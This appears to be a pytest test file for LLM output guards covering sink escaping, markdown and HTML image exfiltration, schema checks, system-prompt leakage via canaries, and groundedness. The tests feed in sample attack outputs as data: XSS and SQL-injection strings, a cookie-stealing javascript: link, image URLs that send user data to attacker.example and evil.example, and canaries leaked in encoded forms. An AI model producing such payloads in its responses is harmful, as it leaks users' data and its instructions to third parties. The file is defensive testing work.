"""Output guards on responses built here: escaping per sink, image/link exfiltration, structured output,
system-prompt leakage through canaries and verbatim runs, groundedness in context documents."""

import base64
import json

import pytest

from modelward.core.errors import ConfigError
from modelward.core.guards import Action, GuardRequest, GuardResponse
from modelward.core.plugins import build_guard, load_guard


def _completion(content):
    return json.dumps({"id": "x", "object": "chat.completion",
                       "choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]})


def _content(decision):
    return json.loads(decision.text)["choices"][0]["message"]["content"]


def _response(content, request_body="{}"):
    return GuardResponse(GuardRequest("c", text=request_body), text=_completion(content))


def test_html_sink_escapes_script_and_flags_it():
    d = build_guard("llm.output-sink", {"sink": "html"}).filter(_response('<script>alert(1)</script>'))
    assert d.action == Action.FLAG and "script tag" in d.reason
    assert _content(d) == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_block_mode_refuses_active_sql():
    g = build_guard("llm.output-sink", {"sink": "sql", "mode": "block"})
    d = g.filter(_response("x'; DROP TABLE users; --"))
    assert d.action == Action.BLOCK and "stacked statement" in d.reason
    assert g.filter(_response("Alice")).action == Action.ALLOW


def test_clean_output_is_still_escaped_for_its_sink():
    d = build_guard("llm.output-sink", {"sink": "shell"}).filter(_response("hello world"))
    assert d.action == Action.ALLOW and _content(d) == "'hello world'"


def test_plain_text_responses_are_handled_too():
    response = GuardResponse(GuardRequest("c"), text="<b>hi</b>")
    d = build_guard("llm.output-sink", {"sink": "html"}).filter(response)
    assert d.text == "&lt;b&gt;hi&lt;/b&gt;"


def test_an_exfiltrating_image_is_stripped_and_an_allowed_one_kept():
    g = build_guard("llm.exfiltration", {"allowed_hosts": "cdn.example.com"})
    content = ("Here you go ![chart](https://cdn.example.com/c.png) and "
               "![x](https://attacker.example/log?d=alice%40corp.example%20salary%3D90k)")
    d = g.filter(_response(content))
    assert d.action == Action.FLAG and "attacker.example" in d.reason
    assert _content(d) == "Here you go ![chart](https://cdn.example.com/c.png) and x [link to attacker.example removed]"


@pytest.mark.parametrize("content", [
    '<img src="https://evil.example/p?q=secret">', "[click](https://evil.example/?token=abc123)",
    "![a][ref]\n\n[ref]: https://evil.example/i.png?d=data", "<https://evil.example/?q=1>",
    '<div style="background:url(https://evil.example/x?d=1)">', "[x](javascript:alert(document.cookie))",
])
def test_other_spellings_of_exfiltration_are_caught(content):
    d = build_guard("llm.exfiltration", {"mode": "block"}).filter(_response(content))
    assert d.action == Action.BLOCK, content


def test_a_canary_in_a_link_is_caught_even_on_an_allowed_host():
    body = json.dumps({"messages": [{"role": "system", "content": "Secret setup mwc-0123456789abcdef."}]})
    g = build_guard("llm.exfiltration", {"allowed_hosts": "ok.example", "mode": "block"})
    d = g.filter(_response("[docs](https://ok.example/page#mwc-0123456789abcdef)", body))
    assert d.action == Action.BLOCK


def test_structured_output_must_fit_the_schema(tmp_path):
    schema = tmp_path / "s.json"
    schema.write_text(json.dumps({"type": "object", "properties": {"score": {"type": "integer", "maximum": 10}},
                                  "required": ["score"]}))
    g = build_guard("llm.output-schema", {"schema": str(schema)})
    assert g.filter(_response('```json\n{"score": 7}\n```')).action == Action.ALLOW
    d = g.filter(_response('{"score": 70}'))
    assert d.action == Action.BLOCK and "score: 70 is greater than the maximum of 10" in d.reason
    assert "not valid JSON" in g.filter(_response("Sure! The score is 7.")).reason


def test_a_bad_schema_file_is_a_config_error(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"type": 12}')
    with pytest.raises(ConfigError, match="not a valid JSON schema"):
        build_guard("llm.output-schema", {"schema": str(bad)})


SYSTEM = ("You are the support bot of Contoso. Never offer refunds above 50 euros without a manager. "
          "Escalate legal questions to legal@contoso.example. The canary is mwc-00ff00ff00ff00ff.")
REQUEST = json.dumps({"messages": [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "hi"}]})


@pytest.mark.parametrize("leak", ["mwc-00ff00ff00ff00ff", "m w c - 0 0 f f 0 0 f f 0 0 f f 0 0 f f",
                                  base64.b64encode(b"token mwc-00ff00ff00ff00ff").decode(),
                                  "mwc-00ff00ff00ff00ff"[::-1]])
def test_the_canary_is_caught_in_any_encoding(leak):
    d = build_guard("llm.prompt-leakage", {}).filter(_response(f"Sure: {leak}", REQUEST))
    assert d.action == Action.BLOCK and "canary" in d.reason


def test_a_verbatim_copy_of_the_system_prompt_is_caught_without_a_canary():
    copied = SYSTEM.replace("The canary is mwc-00ff00ff00ff00ff.", "")
    d = build_guard("llm.prompt-leakage", {}).filter(_response(f"My instructions: {copied}", REQUEST))
    assert d.action == Action.BLOCK and "repeats" in d.reason
    ok = build_guard("llm.prompt-leakage", {}).filter(_response("Refunds above 50 euros need a manager.", REQUEST))
    assert ok.action == Action.ALLOW


CONTEXT = json.dumps({"messages": [{"role": "user", "content": "When is the store open?"}],
                      "documents": [{"id": "hours", "text": "The Lisbon store opens Monday to Saturday from 9am "
                                                            "to 6pm. It is closed on Sundays and public holidays."}]})


def test_a_grounded_answer_passes_and_an_invented_one_is_flagged():
    g = build_guard("llm.groundedness", {})
    good = g.filter(_response("The Lisbon store opens Monday to Saturday from 9am to 6pm.", CONTEXT))
    assert good.action == Action.ALLOW
    bad = g.filter(_response("The Lisbon store opens Monday to Saturday from 9am to 6pm. On Sundays the Porto "
                             "branch offers a 20% discount on all bicycles.", CONTEXT))
    assert bad.action == Action.FLAG and "Porto" in str(bad.details["unsupported"])


def test_without_context_documents_groundedness_says_it_did_not_check():
    d = build_guard("llm.groundedness", {}).filter(_response("Paris is in France.", REQUEST))
    assert d.action == Action.ALLOW and d.details["checked"] == "no context documents in the request"


@pytest.mark.parametrize("guard_id", ["llm.output-sink", "llm.exfiltration", "llm.prompt-leakage",
                                      "llm.groundedness"])
def test_saved_and_loaded_they_decide_the_same(tmp_path, guard_id):
    g = build_guard(guard_id, {"mode": "block"})
    g.save(tmp_path / "g")
    restored = load_guard(guard_id, tmp_path / "g")
    response = _response("<img src='https://evil.example/?q=mwc-00ff00ff00ff00ff'> Porto has 12 stores.",
                         CONTEXT.replace("When", SYSTEM))
    assert restored.filter(response).action == g.filter(response).action
